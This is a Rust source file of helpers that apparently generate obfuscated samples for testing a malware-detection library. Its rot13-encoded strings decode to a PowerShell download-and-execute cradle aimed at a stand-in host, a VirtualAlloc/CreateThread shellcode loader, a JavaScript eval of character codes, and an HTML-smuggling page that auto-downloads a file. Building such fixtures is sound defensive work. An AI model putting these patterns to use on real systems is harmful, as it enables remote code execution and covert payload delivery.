//! Builders that the samples of scripts and mail share.

/// Text that stands in the source rotated by thirteen letters.
pub(super) fn rot13(text: &str) -> String {
    let turn = |c: char, base: u8| char::from((c as u8 - base + 13) % 26 + base);
    text.chars()
        .map(|c| match c {
            'a'..='z' => turn(c, b'a'),
            'A'..='Z' => turn(c, b'A'),
            other => other,
        })
        .collect()
}

/// The same, as bytes.
pub(super) fn text(rotated: &str) -> Vec<u8> {
    rot13(rotated).into_bytes()
}

/// UTF-16LE.
pub(super) fn wide(text: &str) -> Vec<u8> {
    text.encode_utf16().flat_map(u16::to_le_bytes).collect()
}

/// Base64 on one line (RFC 4648, 4).
pub(super) fn base64(bytes: &[u8]) -> String {
    palisade_formats::document::samples::base64(bytes).replace("\r\n", "")
}

/// A download and its evaluation as a list of character codes behind a cast.
pub(super) fn hidden_command(cast: &[u8]) -> Vec<u8> {
    let command = rot13("VRK (Arj-Bowrpg Arg.JroPyvrag).QbjaybnqFgevat('uggc://rknzcyr.pbz/n')");
    let codes: Vec<String> = command.bytes().map(|byte| byte.to_string()).collect();
    let list = format!("({})", codes.join(","));
    [
        b"$code = -join (",
        cast,
        list.as_bytes(),
        b")\n",
        rot13("Vaibxr-Rkcerffvba $pbqr\nJevgr-Ubfg $ahyy\n").as_bytes(),
    ]
    .concat()
}

/// PowerShell that copies bytes into memory and starts a thread there.
pub(super) fn loader(code: &[u8]) -> Vec<u8> {
    let codes: Vec<String> = code.iter().map(|byte| format!("0x{byte:02x}")).collect();
    let call = rot13(
        "$z = $ncv::IveghnyNyybp(0, 4096, 0k3000, 0k40)\n[ZneFuny]::Pbcl($ohs, 0, $z, 18)\n$ncv::PerngrGuernq(0, 0, $z, 0, 0, 0)\nJevgr-Ubfg $ahyy\n",
    );
    format!("[Byte[]] $buf = ({})\n{call}", codes.join(",")).into_bytes()
}

/// JavaScript whose names have this beginning and six hexadecimal digits.
pub(super) fn odd_names(prefix: &str) -> Vec<u8> {
    let mut out = String::from("function main() {\n");
    for number in 0..60u32 {
        let number = number.wrapping_mul(2_654_435_761) >> 8;
        out.push_str(&format!("var {prefix}{number:06x} = window;\n"));
    }
    out.push_str("return document; }\n");
    out.into_bytes()
}

/// JavaScript that evaluates character codes.
pub(super) fn nested_eval() -> Vec<u8> {
    let inner = "document.title = 'a page of samples';";
    let codes: Vec<String> = inner.bytes().map(|byte| byte.to_string()).collect();
    let outer = rot13("riny(Fgevat.sebzPunePbqr(PBQRF));\nine n = qbphzrag;\n");
    outer.replace("CODES", &codes.join(",")).into_bytes()
}

/// A program for Windows in outline: its two headers and nothing to run.
pub(super) fn small_pe() -> Vec<u8> {
    let mut bytes = vec![0u8; 0x200];
    bytes[..2].copy_from_slice(b"MZ");
    bytes[0x3c] = 0x40;
    bytes[0x40..0x44].copy_from_slice(b"PE\0\0");
    bytes[0x44..0x46].copy_from_slice(&0x14cu16.to_le_bytes());
    bytes[0x46] = 1;
    bytes[0x54] = 0xe0;
    bytes[0x56] = 2;
    bytes[0x58..0x5a].copy_from_slice(&0x10bu16.to_le_bytes());
    bytes
}

/// Python with data in base64.
pub(super) fn python_data(bytes: &[u8]) -> Vec<u8> {
    format!(
        "import base64\ndef data(self):\n    return base64.b64decode(\"{}\")\nprint(len(data(None)))\n",
        base64(bytes)
    )
    .into_bytes()
}

/// A page that saves what its constant holds, or what the user wrote when it is empty.
pub(super) fn saving_page(data: &str) -> Vec<u8> {
    let script = rot13(
        "ine q = QNGN;\nine o = arj Oybo([Hvag8Neenl.sebz(ngbo(q), p => p.puneNg(0))]);\nine n = \
         qbphzrag.perngrRyrzrag(\"n\");\nn.uers = HEY.perngrBowrpgHEY(o);\nn.qbjaybnq = \"ercbeg.mvc\";\nn.pyvpx();\n",
    );
    let value =
        if data.is_empty() { "document.body.innerText".to_owned() } else { format!("\"{data}\"") };
    format!("<html><body><script>{}</script></body></html>", script.replace("DATA", &value))
        .into_bytes()
}
